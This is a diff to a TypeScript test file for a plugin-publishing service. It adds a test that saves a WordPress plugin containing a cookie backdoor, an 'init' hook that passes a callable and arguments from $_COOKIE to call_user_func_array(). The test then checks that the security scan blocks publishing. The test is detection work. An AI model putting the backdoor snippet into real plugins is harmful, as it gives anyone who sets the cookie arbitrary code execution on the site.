@@ -3,6 +3,7 @@ import { describe, expect, it } from "vitest";
 import { LIMITS } from "../../../shared/constants";
 import { signUp, uniqueEmail } from "../../../../tests/support/factories";
 import { createPlugin } from "../../../../tests/support/plugin-factories";
+import { saveFilesDirectly } from "../../../../tests/support/plugin-state";
 import type { TestClient } from "../../../../tests/support/test-client";
 import { useSharedTestApp } from "../../../../tests/support/test-app";
 import { pluginVersions, plugins, profiles } from "../../db/schema";
@@ -105,6 +106,33 @@ describe("[PLUGINS][PUBLISHING]", () => {
     await addVersion(services, failed, "passed");
     expect((await publish(client, failed)).status).toBe(200);
     expect((await client.get(`/api/plugins/${failed}`)).json.isPublic).toBe(true);
+  });
+
+  it("refuses to publish a plugin whose code runs a callable the request names (issue #30's cookie backdoor), and its report shows the error", async () => {
+    const { client, services } = testApp();
+    const { user } = await signUp(client);
+    const id = await createPlugin(client);
+    await saveFilesDirectly(services, user.id, id, { "greeter/greeter.php": MAIN("Ada") });
+    const backdoor = `${MAIN("Ada")}add_action( 'init', 'greeter_init' );\nfunction greeter_init() {\n\tif ( isset( $_COOKIE['f'] ) ) {\n\t\tcall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\n\t}\n}\n`;
+    const edit = (content: string, baseVersion: number) =>
+      client.post(`/api/plugins/${id}/files`, { changes: [{ op: "write", path: "greeter/greeter.php", content }], baseVersion });
+    expect((await edit(backdoor, 1)).status).toBe(200);
+
+    const refused = await publish(client, id);
+    expect(refused.status).toBe(422);
+    expect(refused.json.error.code).toBe("checks_not_passed");
+    expect(refused.json.error.message).toContain("greeter/greeter.php:10 Passes a callable taken from the request to call_user_func_array()");
+    const report = await client.get(`/api/plugins/${id}/versions/2/check`);
+    expect(report.status).toBe(200);
+    expect(report.json.status).toBe("failed");
+    expect(report.json.findings).toContainEqual(
+      expect.objectContaining({ rule: "request-callable", severity: "error", file: "greeter/greeter.php", line: 10 }),
+    );
+    expect((await client.newClient().get(`/api/public/plugins/${id}`)).status).toBe(404);
+
+    // The same hook calling a fixed function passes and may be published.
+    expect((await edit(backdoor.replace("$_COOKIE['f'], $_COOKIE['a']", "'greeter_hello', array()"), 2)).status).toBe(200);
+    expect((await publish(client, id)).status).toBe(200);
   });
 
   it("takes a public plugin out of the gallery while its current version fails the checks", async () => {
